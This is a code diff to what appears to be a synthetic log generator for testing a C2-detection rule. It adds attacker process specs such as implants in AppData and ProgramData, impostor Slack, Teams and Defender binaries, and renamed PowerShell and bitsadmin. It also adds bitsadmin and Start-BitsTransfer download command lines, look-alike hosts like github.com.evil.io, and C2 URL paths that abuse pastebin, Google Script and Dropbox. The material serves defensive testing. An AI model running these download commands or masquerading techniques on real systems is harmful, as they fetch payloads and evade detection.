@@ -157,7 +157,17 @@ export const PERSISTENT_WIN: readonly ProcSpec[] = [
     ],
   },
 ];
-/** Present on some hosts only (developers, Slack users). */
+/** A per-user install in AppData reaching medium-tier APIs: branch c must not hold (SPEC §1). */
+const ZOOM = {
+  bin: 'zoom',
+  cls: 'app',
+  net: 'peruser',
+  account: 'user',
+  parent: 'explorer',
+  integrity: 'Medium',
+} as const;
+
+/** Present on some hosts only (developers, Slack users, per-user installs under AppData). */
 export const PERSISTENT_OPTIONAL: readonly (readonly [ProcSpec, number])[] = [
   [
     {
@@ -183,6 +193,19 @@ export const PERSISTENT_OPTIONAL: readonly (readonly [ProcSpec, number])[] = [
     },
     0.3,
   ],
+  [
+    {
+      bin: 'spotify',
+      cls: 'app',
+      net: 'peruser',
+      account: 'user',
+      parent: 'explorer',
+      integrity: 'Medium',
+      cmds: ['"C:\\Users\\{u}\\AppData\\Roaming\\Spotify\\Spotify.exe" --autostart --minimized'],
+    },
+    0.2,
+  ],
+  [{ ...ZOOM, cmds: ['"C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --autostart'] }, 0.3],
   [
     {
       bin: 'firefox',
@@ -437,6 +460,13 @@ export const SPAWN_WIN: readonly SpawnSpec[] = [
     cmds: ['"C:\\Windows\\system32\\mstsc.exe" /v:SRV-OPS-{n}.corp.example.com'],
   },
   {
+    weight: 1,
+    ...ZOOM,
+    cmds: [
+      '"C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--url=zoommtg://zoom.us/join?action=join&confno={n}"',
+    ],
+  },
+  {
     weight: 2,
     bin: 'git',
     cls: 'app',
@@ -465,8 +495,10 @@ export const SPAWN_WIN: readonly SpawnSpec[] = [
       `"${PS}" -Command "Invoke-WebRequest -Uri https://www.powershellgallery.com/api/v2/package/PSWindowsUpdate -OutFile $env:TEMP\\p.zip"`,
       `"${PS}" -c "Test-NetConnection fileserver01.corp.example.com -Port 445"`,
       `"${PS}" -c "$r = iwr 'https://intranet.corp.example.com/api/status?host=$env:COMPUTERNAME&check=1&v=2' -UseBasicParsing"`,
-      `"${PS}" -c "(iwr https://github.com/PowerShell/PowerShell/releases/latest -UseBasicParsing).Content | Out-Null"`,
+      `"${PS}" -c "(iwr https://aka.ms/powershell-release?tag=stable -UseBasicParsing).Content | Out-Null"`,
+      // Look-alikes of listed hosts in URLs: no process-start event (SPEC §1, label boundary).
       `"${PS}" -c "iwr https://evilpastebin.com/raw/{r} -OutFile $env:TEMP\\lookalike.txt"`,
+      `"${PS}" -c "iwr https://github.com.evil.io/{r}/t.ps1 -OutFile $env:TEMP\\lookalike2.txt"`,
     ],
   },
   {
@@ -605,7 +637,8 @@ export const SPAWN_WIN: readonly SpawnSpec[] = [
     cmds: [
       'curl.exe -s https://intranet.corp.example.com/health',
       'curl -I https://www.microsoft.com',
-      'curl.exe -sL -o %TEMP%\\gh.zip https://github.com/cli/cli/releases/download/v2.43.1/gh_2.43.1_windows_amd64.zip',
+      'curl.exe -sL -o %TEMP%\\node.zip https://nodejs.org/dist/v20.11.0/node-v20.11.0-win-x64.zip',
+      'curl.exe -s https://dash.myworkers.dev/status',
     ],
   },
   {
@@ -693,16 +726,48 @@ export const SPAWN_LIN: readonly SpawnSpec[] = [
   },
 ];
 
-/** An attacker's process: suspicious by name (or by Office parent) and talking to a listed host. */
+/**
+ * The tiers of listed domains a planted process matches, by SPEC §1 clauses 3 and 4 as the
+ * generator decides them for what it plants: every tier (suspicious name or Office/PDF parent),
+ * the high tier only (an image in a user-writable path, branch c), or none (an excluded client
+ * at home).
+ */
+export type Reach = 'any' | 'high' | 'none';
+
+/** An attacker's process (or a decoy), talking to or naming a listed host. */
 export interface AttackSpec {
   weight: number;
   bin: BinaryId;
   parent: BinaryId;
   account: AccountKind;
+  /** Which tiers its events match (default 'any': suspicious by name or by its parent). */
+  reach?: Reach;
+  /**
+   * The reach where no OriginalFileName names the process (Falcon): a renamed binary is then
+   * only what its name and path say. Default: `reach`.
+   */
+  reachWithoutIdentity?: Reach;
   /** Command line carrying the C2 URL (used by the command-line join). */
   withUrl: readonly ((url: string) => string)[];
   /** Command line without any URL (only DNS can name the destination). */
   withoutUrl: readonly string[];
+}
+
+/**
+ * A process whose only trace is its command line (SPEC §1 process-start events): a BITS job
+ * (the BITS service makes the connection), `Start-BitsTransfer`, a renamed downloader.
+ */
+export interface FetchSpec {
+  weight: number;
+  bin: BinaryId;
+  parent: BinaryId;
+  account: AccountKind;
+  reach: Reach;
+  reachWithoutIdentity?: Reach;
+  /** The command line for one or more URLs (each a remote file, with its local destination). */
+  cmd: (urls: readonly string[]) => string;
+  /** How many URLs the command line can carry. */
+  maxUrls: number;
 }
 
 export const ATTACKS_WIN: readonly AttackSpec[] = [
@@ -865,18 +930,24 @@ export const ATTACKS_WIN: readonly AttackSpec[] = [
     withoutUrl: ['C:\\Windows\\system32\\cmd.exe /c C:\\Users\\{u}\\AppData\\Local\\Temp\\x.bat'],
   },
 ];
-/** Not suspicious by name: matches only through its Office parent (SPEC §1 clause 4). */
+/** Not suspicious by name: matches through its Office parent (SPEC §1 branch b), any tier. */
 export const ATTACK_OFFICE_CHILD: AttackSpec = {
   weight: 0,
+  reach: 'any',
   bin: 'dropper',
   parent: 'winword',
   account: 'user',
   withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\InvoiceViewer.exe" --update ${u}`],
   withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\InvoiceViewer.exe" '],
 };
-/** PowerShell renamed chrome.exe (Sysmon only: identity from OriginalFileName). */
+/**
+ * PowerShell renamed chrome.exe in C:\\Users\\Public: Sysmon's OriginalFileName says PowerShell
+ * (any tier); Falcon sees only a chrome.exe away from Chrome's home, in a user-writable path.
+ */
 export const ATTACK_RENAMED: AttackSpec = {
   weight: 0,
+  reach: 'any',
+  reachWithoutIdentity: 'high',
   bin: 'renamedPowershell',
   parent: 'cmd',
   account: 'user',
@@ -912,6 +983,215 @@ export const ATTACKS_LIN: readonly AttackSpec[] = [
   },
 ];
 
+/** Implants dropped in user-writable paths, not suspicious by name (SPEC §1 branch c). */
+export const ATTACK_IMPLANTS: readonly AttackSpec[] = [
+  {
+    weight: 3,
+    reach: 'high',
+    bin: 'implantRoaming',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [
+      (u) =>
+        `"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Crypto\\Keys\\CryptSvcHost.exe" --cfg ${u}`,
+    ],
+    withoutUrl: [
+      '"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Crypto\\Keys\\CryptSvcHost.exe" -k',
+    ],
+  },
+  {
+    weight: 2,
+    reach: 'high',
+    bin: 'implantProgramData',
+    parent: 'taskhostw',
+    account: 'user',
+    withUrl: [(u) => `C:\\ProgramData\\IntelGraphics\\igfxCUIsvc.exe /s /u ${u}`],
+    withoutUrl: ['C:\\ProgramData\\IntelGraphics\\igfxCUIsvc.exe /s'],
+  },
+  {
+    weight: 2,
+    reach: 'high',
+    bin: 'implantPublic',
+    parent: 'svchost',
+    account: 'user',
+    withUrl: [(u) => `C:\\Users\\Public\\Libraries\\RuntimeBroker.exe -Embedding -p "${u}"`],
+    withoutUrl: ['C:\\Users\\Public\\Libraries\\RuntimeBroker.exe -Embedding'],
+  },
+  {
+    weight: 2,
+    reach: 'high',
+    bin: 'implantTemp',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [
+      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\7zS4A21\\setup.exe" /quiet /feed=${u}`,
+    ],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\7zS4A21\\setup.exe" /quiet'],
+  },
+  {
+    weight: 1,
+    reach: 'high',
+    bin: 'implantDownloads',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [(u) => `"C:\\Users\\{u}\\Downloads\\Invoice_2024-03_scan.exe" --open ${u}`],
+    withoutUrl: ['"C:\\Users\\{u}\\Downloads\\Invoice_2024-03_scan.exe" '],
+  },
+  {
+    weight: 1,
+    reach: 'high',
+    bin: 'implantTasks',
+    parent: 'svchost',
+    account: 'system',
+    withUrl: [(u) => `C:\\Windows\\Tasks\\wmihost.exe ${u}`],
+    withoutUrl: ['C:\\Windows\\Tasks\\wmihost.exe -service'],
+  },
+];
+
+/**
+ * An excluded client's name away from that client's home (SPEC §1 clause 3): not excluded. A
+ * slack.exe in AppData\Roaming started by Outlook matches any tier (branch b); the others only
+ * the high tier (branch c).
+ */
+export const ATTACK_IMPOSTORS: readonly AttackSpec[] = [
+  {
+    weight: 3,
+    reach: 'any',
+    bin: 'impostorSlack',
+    parent: 'outlook',
+    account: 'user',
+    withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Roaming\\slack.exe" --update-url=${u}`],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Roaming\\slack.exe" --startup'],
+  },
+  {
+    weight: 2,
+    reach: 'high',
+    bin: 'impostorOneDrive',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [(u) => `C:\\Users\\Public\\OneDrive.exe /sync ${u}`],
+    withoutUrl: ['C:\\Users\\Public\\OneDrive.exe /background'],
+  },
+  {
+    weight: 1,
+    reach: 'high',
+    bin: 'impostorTeams',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [(u) => `"C:\\ProgramData\\Teams\\Teams.exe" --url ${u}`],
+    withoutUrl: ['"C:\\ProgramData\\Teams\\Teams.exe" --system-initiated'],
+  },
+  {
+    weight: 1,
+    reach: 'high',
+    bin: 'impostorDefender',
+    parent: 'cmd',
+    account: 'user',
+    withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\MsMpEng.exe" -u ${u}`],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\MsMpEng.exe" '],
+  },
+];
+
+/**
+ * Decoys: excluded clients at home doing what looks like an attack (a link in a document or a
+ * mail opens the browser on a paste site; Slack or Teams started from Outlook). Excluded before
+ * any branch is considered (SPEC §1 clause 3): they must never match.
+ */
+export const HOME_CLIENTS: readonly AttackSpec[] = [
+  {
+    weight: 3,
+    reach: 'none',
+    bin: 'chrome',
+    parent: 'winword',
+    account: 'user',
+    withUrl: [
+      (u) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument ${u}`,
+    ],
+    withoutUrl: ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" '],
+  },
+  {
+    weight: 2,
+    reach: 'none',
+    bin: 'msedge',
+    parent: 'outlook',
+    account: 'user',
+    withUrl: [
+      (u) =>
+        `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument ${u}`,
+    ],
+    withoutUrl: ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" '],
+  },
+  {
+    weight: 2,
+    reach: 'none',
+    bin: 'slack',
+    parent: 'outlook',
+    account: 'user',
+    withUrl: [
+      (u) =>
+        `"C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.36.140\\slack.exe" --protocol-launcher ${u}`,
+    ],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.36.140\\slack.exe" '],
+  },
+  {
+    weight: 1,
+    reach: 'none',
+    bin: 'teams',
+    parent: 'outlook',
+    account: 'user',
+    withUrl: [
+      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" -- ${u}`,
+    ],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" '],
+  },
+  {
+    weight: 1,
+    reach: 'none',
+    bin: 'onedrive',
+    parent: 'explorer',
+    account: 'user',
+    withUrl: [
+      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /url:${u}`,
+    ],
+    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'],
+  },
+];
+
+/** Downloads that leave no network event of their own: the command line is the only trace. */
+export const FETCH_ONLY: readonly FetchSpec[] = [
+  {
+    weight: 4,
+    reach: 'any',
+    bin: 'bitsadmin',
+    parent: 'cmd',
+    account: 'user',
+    maxUrls: 2,
+    cmd: (urls) =>
+      `bitsadmin.exe /transfer upd{r} /download /priority foreground ${urls.map((u, i) => `${u} C:\\Users\\Public\\{r}${i}.dat`).join(' ')}`,
+  },
+  {
+    weight: 2,
+    reach: 'any',
+    bin: 'powershell',
+    parent: 'cmd',
+    account: 'user',
+    maxUrls: 2,
+    cmd: (urls) =>
+      `powershell.exe -nop -c "${urls.map((u, i) => `Start-BitsTransfer -Source '${u}' -Destination $env:APPDATA\\{r}${i}.bin`).join('; ')}"`,
+  },
+  {
+    weight: 1,
+    reach: 'any',
+    reachWithoutIdentity: 'high',
+    bin: 'renamedBitsadmin',
+    parent: 'cmd',
+    account: 'user',
+    maxUrls: 1,
+    cmd: ([u]) =>
+      `C:\\Users\\{u}\\AppData\\Local\\Temp\\wupdmgr.exe /transfer j{r} /download ${u} C:\\Users\\{u}\\AppData\\Local\\Temp\\{r}.exe`,
+  },
+];
+
 /** URL paths per C2 service, so command lines look like the real abuse. */
 export function c2Path(domain: string, token: string): string {
   if (domain.endsWith('pastebin.com') || domain === 'paste.ee' || domain === 'ghostbin.co')
@@ -930,5 +1210,18 @@ export function c2Path(domain: string, token: string): string {
   if (domain.includes('firebaseio.com')) return `/beacons/${token}.json`;
   if (domain.includes('notion')) return `/v1/blocks/${token}/children`;
   if (domain === 'gitee.com') return `/${token}/cfg/raw/master/c.txt`;
+  if (domain === 'github.com') return `/${token}/tools/releases/download/v1.2/agent.zip`;
+  if (domain === 'objects.githubusercontent.com')
+    return `/github-production-release-asset-2e65be/${token}/agent.zip`;
+  if (domain === 't.me') return `/s/${token}_news`;
+  if (domain === 'steamcommunity.com') return `/profiles/7656119${token}`;
+  if (domain === 'script.google.com') return `/macros/s/AKfycb${token}/exec`;
+  if (domain === 'docs.google.com') return `/document/d/${token}/export?format=txt`;
+  if (domain === 'api.trello.com') return `/1/cards/${token}/attachments`;
+  if (domain === 'rentry.co') return `/${token}/raw`;
+  if (domain === '1drv.ms') return `/u/s!A${token}`;
+  if (domain.endsWith('sharepoint.com'))
+    return `/personal/it_contoso_com/_layouts/15/download.aspx?share=${token}`;
+  if (domain.includes('dropbox')) return `/s/${token}/update.bin?dl=1`;
   return `/${token}`;
 }
